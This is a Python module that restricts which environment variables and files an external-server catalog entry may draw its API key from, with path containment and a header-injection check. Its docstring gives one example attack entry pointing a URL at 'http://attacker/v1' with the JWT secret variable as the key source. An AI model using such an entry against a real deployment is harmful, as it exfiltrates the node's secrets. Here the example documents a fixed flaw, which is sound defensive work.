"""Where an external server's API key may come from, and reading it.

Why: an ``engine: external`` entry names the key it sends to its server by an
environment variable (``apiKeyEnv``) or a file (``apiKeyFile``), and the server
is whatever ``url`` says. Without a rule, one admin request could send out the
node's own secrets: an entry ``{"url": "http://attacker/v1", "apiKeyEnv":
"SARDEENZ_JWT_SECRET"}`` and one ``/v1`` request delivered the JWT secret to the
listener (the same with ``SARDEENZ_API_KEYS``, ``CLUSTER_SECRET`` and
``apiKeyFile`` pointing at any one-line file; issue 23).

The rule (``KeySources``):

* ``apiKeyEnv`` never names one of Sardeenz's own variables (``SARDEENZ_*``,
  ``CLUSTER_*``, ``DATABASE_URL``), and must match one of the shell patterns of
  ``SARDEENZ_EXTERNAL_KEY_ENVS`` (default ``*``: any other variable);
* ``apiKeyFile`` must be inside ``SARDEENZ_EXTERNAL_KEY_DIR`` once symlinks and
  ``..`` are resolved; with no directory configured, no file may be named.

It is checked when an entry is stored through the API (a 422) and again every
time a key is read (so a catalog from the config file, or an entry stored
before the rule, cannot send a secret either: its state is ``failed``).
"""

from __future__ import annotations

import asyncio
import fnmatch
import os
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from sardeenz.config import Settings
from sardeenz.store.records import CatalogEntry

OWN_PREFIXES: Final = ("SARDEENZ_", "CLUSTER_")
OWN_NAMES: Final = frozenset({"DATABASE_URL"})


class KeyUnavailable(Exception):
    """The entry's API key cannot be (or may not be) read; the message says why."""


@dataclass(frozen=True, slots=True)
class KeySources:
    """What ``apiKeyEnv`` and ``apiKeyFile`` may name (see the module docstring)."""

    env_patterns: tuple[str, ...] = ("*",)
    key_dir: Path | None = None

    @classmethod
    def from_settings(cls, settings: Settings) -> KeySources:
        patterns = tuple(p.strip() for p in settings.external_key_envs.split(",") if p.strip())
        return cls(patterns, settings.external_key_dir)

    def refusal(self, entry: CatalogEntry) -> str | None:
        """Why the entry may not use its key source, or None when it may."""
        name = entry.api_key_env
        if name is not None:
            if name.upper().startswith(OWN_PREFIXES) or name.upper() in OWN_NAMES:
                return (
                    f"apiKeyEnv: {name} is one of Sardeenz's own variables "
                    "(SARDEENZ_*, CLUSTER_*, DATABASE_URL), never sent to a server"
                )
            if not any(fnmatch.fnmatchcase(name, p) for p in self.env_patterns):
                return f"apiKeyEnv: {name} matches no pattern of SARDEENZ_EXTERNAL_KEY_ENVS"
        if entry.api_key_file is not None:
            if self.key_dir is None:
                return (
                    "apiKeyFile: not allowed: set SARDEENZ_EXTERNAL_KEY_DIR to the directory "
                    "of the external servers' key files"
                )
            root = os.path.realpath(self.key_dir)
            path = os.path.realpath(entry.api_key_file)
            if os.path.commonpath([root, path]) != root or path == root:
                return f"apiKeyFile: must be inside SARDEENZ_EXTERNAL_KEY_DIR ({self.key_dir})"
        return None


async def read_key(entry: CatalogEntry, sources: KeySources) -> str | None:
    """The entry's API key, or None when it has none; ``KeyUnavailable`` says why not."""
    why = sources.refusal(entry)
    if why is not None:
        raise KeyUnavailable(why)
    if entry.api_key_env is not None:
        key = os.environ.get(entry.api_key_env)
        if not key:
            raise KeyUnavailable(f"apiKeyEnv: environment variable {entry.api_key_env} is not set")
        where = f"apiKeyEnv: {entry.api_key_env}"
    elif entry.api_key_file is not None:
        path = Path(entry.api_key_file)
        try:
            key = (await asyncio.to_thread(path.read_text, "utf-8")).strip()
        except (OSError, UnicodeDecodeError) as exc:
            raise KeyUnavailable(
                f"apiKeyFile: cannot read {entry.api_key_file}: {type(exc).__name__}"
            ) from None
        if not key:
            raise KeyUnavailable(f"apiKeyFile: {entry.api_key_file} is empty")
        where = f"apiKeyFile: {entry.api_key_file}"
    else:
        return None
    if not key.isprintable() or not key.isascii():
        # It goes into a header line: a CR/LF would be header injection.
        raise KeyUnavailable(f"{where}: the key has characters a header cannot carry")
    return key
